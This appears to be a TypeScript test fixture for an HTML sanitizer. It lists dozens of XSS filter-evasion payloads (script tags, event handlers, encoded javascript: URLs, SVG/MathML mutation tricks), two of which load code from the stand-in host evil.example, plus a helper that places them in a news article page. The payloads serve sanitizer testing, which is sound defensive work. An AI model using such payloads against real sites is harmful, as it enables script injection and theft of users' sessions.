/**
 * Well-known XSS vectors, written for these tests in the style of the OWASP filter-evasion cheat sheet. Every
 * payload that would run script calls `window.__xss()` (or `alert`), so the browser test can tell whether it
 * ran. `keeps` is text the sanitized body must still hold: the payload is dropped, not the prose around it.
 */
export interface XssPayload {
  name: string;
  html: string;
}

export const XSS_PAYLOADS: readonly XssPayload[] = [
  { name: "script element", html: "<script>window.__xss()</script>" },
  { name: "script element in mixed case", html: "<ScRiPt>window.__xss()</sCrIpT>" },
  { name: "script with a src", html: '<script src="https://evil.example/x.js"></script>' },
  { name: "script split by a null byte", html: "<scr\u0000ipt>window.__xss()</scr\u0000ipt>" },
  { name: "script with a slash for a space", html: "<script/xss>window.__xss()</script>" },
  { name: "nested script tags", html: "<scr<script>ipt>window.__xss()</scr</script>ipt>" },
  { name: "unclosed script tag", html: "<script>window.__xss()" },
  { name: "img onerror", html: "<img src=x onerror=window.__xss()>" },
  { name: "img onerror in upper case", html: '<IMG SRC="x" ONERROR="window.__xss()">' },
  { name: "img onerror after a slash", html: "<img/src=x/onerror=window.__xss()>" },
  { name: "img onerror with a backtick-quoted src", html: "<img src=`x` onerror=window.__xss()>" },
  { name: "img javascript: src", html: '<img src="javascript:window.__xss()">' },
  { name: "img with entity-encoded javascript: src", html: '<img src="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss()">' },
  { name: "img data:image/svg+xml src", html: '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzKCkiLz4=">' },
  { name: "img data:text/html src", html: '<img src="data:text/html,<script>window.__xss()</script>">' },
  { name: "img srcset with javascript:", html: '<img srcset="javascript:window.__xss() 1x">' },
  { name: "img lazy data-src with javascript:", html: '<img src="/blank.gif" data-src="javascript:window.__xss()">' },
  { name: "a javascript: href", html: '<a href="javascript:window.__xss()">click me</a>' },
  { name: "a javascript: href in mixed case", html: '<a href="JaVaScRiPt:window.__xss()">click me</a>' },
  { name: "a javascript: href with an entity tab", html: '<a href="jav&#x09;ascript:window.__xss()">click me</a>' },
  { name: "a javascript: href with an entity newline", html: '<a href="jav&#x0A;ascript:window.__xss()">click me</a>' },
  { name: "a javascript: href with a raw tab", html: '<a href="jav\tascript:window.__xss()">click me</a>' },
  { name: "a javascript: href with leading control characters", html: '<a href="\u0001\u0002 javascript:window.__xss()">click me</a>' },
  { name: "a javascript: href fully entity-encoded without semicolons", html: '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058window.__xss()">click me</a>' },
  { name: "a javascript: href hex-encoded", html: '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss()">click me</a>' },
  { name: "a javascript: href with a named-entity colon", html: '<a href="javascript&colon;window.__xss()">click me</a>' },
  { name: "a vbscript: href", html: '<a href="vbscript:msgbox(1)">click me</a>' },
  { name: "a data:text/html href", html: '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3MoKTwvc2NyaXB0Pg==">click me</a>' },
  { name: "a onclick", html: '<a href="/ok" onclick="window.__xss()">click me</a>' },
  { name: "a onmouseover without quotes", html: "<a href=/ok onmouseover=window.__xss()>hover me</a>" },
  { name: "attribute break-out through a title", html: '<a href="/ok" title="&quot; onmouseover=&quot;window.__xss()">hover me</a>' },
  { name: "attribute break-out through an alt", html: '<img src="/a.jpg" alt="&quot;&gt;&lt;script&gt;window.__xss()&lt;/script&gt;">' },
  { name: "b onmouseover", html: '<b onmouseover="window.__xss()">bold</b>' },
  { name: "autofocus onfocus", html: '<b tabindex=1 autofocus onfocus="window.__xss()">focus me</b>' },
  { name: "details ontoggle", html: '<details open ontoggle="window.__xss()"><summary>more</summary>text</details>' },
  { name: "body onload", html: '<body onload="window.__xss()">' },
  { name: "svg onload", html: "<svg onload=window.__xss()>" },
  { name: "svg with a script inside", html: "<svg><script>window.__xss()</script></svg>" },
  { name: "svg animate href", html: '<svg><a><animate attributeName="href" values="javascript:window.__xss()"/><text x="20" y="20">click</text></a></svg>' },
  { name: "math with a javascript: href", html: '<math><mtext href="javascript:window.__xss()">click</mtext></math>' },
  { name: "math/style mutation (mXSS)", html: "<math><mtext><table><mglyph><style><img src=x onerror=window.__xss()></style></mglyph></table></mtext></math>" },
  { name: "noscript mutation", html: '<noscript><p title="</noscript><img src=x onerror=window.__xss()>"></noscript>' },
  { name: "iframe javascript: src", html: '<iframe src="javascript:window.__xss()"></iframe>' },
  { name: "iframe srcdoc", html: '<iframe srcdoc="&lt;script&gt;parent.__xss()&lt;/script&gt;"></iframe>' },
  { name: "object data", html: '<object data="javascript:window.__xss()"></object>' },
  { name: "embed src", html: '<embed src="data:text/html,<script>window.__xss()</script>">' },
  { name: "form action with a button", html: '<form action="javascript:window.__xss()"><button>go</button></form>' },
  { name: "button formaction", html: '<button formaction="javascript:window.__xss()">go</button>' },
  { name: "input onfocus autofocus", html: '<input autofocus onfocus="window.__xss()">' },
  { name: "select onfocus autofocus", html: '<select autofocus onfocus="window.__xss()"><option>x</option></select>' },
  { name: "textarea onfocus autofocus", html: '<textarea autofocus onfocus="window.__xss()">x</textarea>' },
  { name: "video onerror", html: "<video><source onerror=window.__xss()></video>" },
  { name: "audio src onerror", html: "<audio src=x onerror=window.__xss()>" },
  { name: "style element with expression and import", html: "<style>@import 'https://evil.example/x.css'; p{background:url(javascript:window.__xss())}</style>" },
  { name: "style attribute", html: '<span style="background:url(javascript:window.__xss());x:expression(window.__xss())">styled</span>' },
  { name: "meta refresh", html: '<meta http-equiv="refresh" content="0;url=javascript:window.__xss()">' },
  { name: "base href hijack", html: '<base href="javascript:window.__xss()//">' },
  { name: "link stylesheet", html: '<link rel="stylesheet" href="javascript:window.__xss()">' },
  { name: "link import", html: '<link rel="import" href="data:text/html,<script>window.__xss()</script>">' },
  { name: "template with a script", html: "<template><script>window.__xss()</script></template>" },
  { name: "marquee onstart", html: "<marquee onstart=window.__xss()>moving</marquee>" },
  { name: "isindex-style action", html: '<isindex action="javascript:window.__xss()" type=image>' },
  { name: "table background", html: '<table background="javascript:window.__xss()"><tr><td>cell</td></tr></table>' },
  { name: "comment break-out", html: "<!--<img src=\"--><img src=x onerror=window.__xss()//\">" },
  { name: "conditional comment", html: "<!--[if gte IE 4]><script>window.__xss()</script><![endif]-->" },
  { name: "CDATA break-out", html: "<![CDATA[<]]><img src=x onerror=window.__xss()//>" },
  { name: "xmp raw text", html: "<xmp><img src=x onerror=window.__xss()></xmp>" },
  { name: "plaintext", html: "<plaintext><img src=x onerror=window.__xss()>" },
  { name: "time with an event handler", html: '<time datetime="2024" onmouseover="window.__xss()">now</time>' },
  { name: "time datetime break-out", html: '<time datetime="&quot;&gt;&lt;img src=x onerror=window.__xss()&gt;">now</time>' },
  { name: "custom element with an event handler", html: '<x-story onclick="window.__xss()">custom</x-story>' },
  { name: "a with an encoded javascript: href inside a figure caption", html: '<figure><img src="/a.jpg"><figcaption><a href="&#x6A;avascript:window.__xss()">caption link</a></figcaption></figure>' },
];

/** The prose an article page needs around a payload for the body to include it. */
export const PROSE = [
  "The city council voted on Tuesday to approve a new tiered water rate structure for the residents of the valley.",
  "Households that use more water will pay more per gallon under the plan, which takes effect in July next year.",
  "Council members said the change would encourage conservation during the increasingly frequent dry summers.",
];

/**
 * An article page with the payload inside a body paragraph, in a paragraph of its own, in a figure caption,
 * and as the URL of a tag, a related link and a breadcrumb crumb (where it is a URL-like payload).
 */
export function pageWithPayload(payload: string): string {
  const hrefs = /(?:href|src|action|data)\s*=\s*"([^"]*)"/i.exec(payload)?.[1] ?? "javascript:window.__xss()";
  return `<!doctype html><html><head><title>Council approves water rates</title></head><body>
<nav class="breadcrumbs" aria-label="breadcrumb"><a href="/">Home</a> › <a href="${hrefs}">News</a> › <span>Water</span></nav>
<article><h1 class="entry-title">Council approves water rates</h1>
<div class="entry-content">
<p>${PROSE[0]} ${payload} The vote was six to one.</p>
<p>${PROSE[1]}</p>
${payload}
<p>${PROSE[2]}</p>
<figure><img src="/photo.jpg" alt="The hearing"><figcaption>Residents at the hearing ${payload} (Photo: Jane Roe)</figcaption></figure>
<p>${PROSE[0]}</p>
<h3>Related</h3><ul><li><a href="${hrefs}">Council passes the budget after a long debate</a></li><li><a href="/news/other">Another story about the rates</a></li></ul>
</div>
<footer class="entry-footer"><a href="${hrefs}" rel="tag">water</a> <a href="/tag/rates/" rel="tag">rates</a></footer>
</article></body></html>`;
}
